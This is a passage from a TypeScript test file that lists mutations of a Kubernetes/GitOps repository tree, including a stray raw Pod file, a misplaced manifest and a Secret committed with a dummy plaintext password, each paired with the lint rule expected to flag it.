    apply: (tree) =>
      tree.raw(
        "acme/app/pod-shell.json",
        JSON.stringify({ apiVersion: "v1", kind: "Pod", metadata: meta("shell", "acme"), spec: { containers: [] } }),
      ),
  },
  {
    attack: "a manifest outside any component folder",
    rule: "tree/layout",
    apply: (tree) => tree.move(SERVICE, "acme/service-api.yaml"),
  },
  {
    attack: "a Secret with data committed to git",
    rule: "secrets/no-plaintext",
    apply: (tree) =>
      tree.put(app("secret-leak"), {
        apiVersion: "v1",
        kind: "Secret",
        metadata: meta("leak", "acme"),
        stringData: { password: "hunter2-hunter2" },
      }),
  },
]

export const mutations: ReadonlyArray<Mutation> = [
  ...services,
  ...hostnames,
  ...network,
  ...pods,
  ...provisioning,
  ...namespace,
  ...rbacMutations,
  ...credentials,
  ...argo,
  ...layout,
]
